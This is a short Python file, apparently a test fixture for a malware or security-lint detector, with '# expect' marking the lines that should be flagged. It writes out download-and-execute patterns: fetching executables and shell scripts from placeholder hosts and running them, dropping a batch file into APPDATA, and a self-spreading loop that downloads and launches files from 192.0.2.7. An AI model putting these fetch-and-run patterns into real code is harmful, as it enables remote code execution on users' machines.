import base64
import os
import subprocess
import tempfile
import urllib.request
import zipfile

import requests

path = os.path.join(tempfile.gettempdir(), "update.exe")
with open(path, "wb") as f:
    f.write(requests.get("https://example.com/update.exe").content)
subprocess.Popen([path])  # expect

urllib.request.urlretrieve("https://example.com/x.sh", "/tmp/x.sh")
os.chmod("/tmp/x.sh", 0o755)
os.system("/tmp/x.sh")  # expect

target = os.environ["APPDATA"] + "\\helper.bat"
open(target, "w").write(base64.b64decode("QGVjaG8gb2Zm").decode())
os.startfile(target)  # expect


def spread():
    names = requests.get("http://192.0.2.7/list.txt").text.split()
    for name in names:
        with open(name, "wb") as f:
            f.write(requests.get("http://192.0.2.7/" + name).content)
        os.system("chmod +x " + name)
        os.system("./" + name + " &")  # expect

program = os.path.join(os.environ["TEMP"], "viewer.exe")
with open(program, "wb") as f:
    f.write(b"MZ" + bytes(64) + b"This program cannot be run in DOS mode.")
os.startfile(program)  # expect
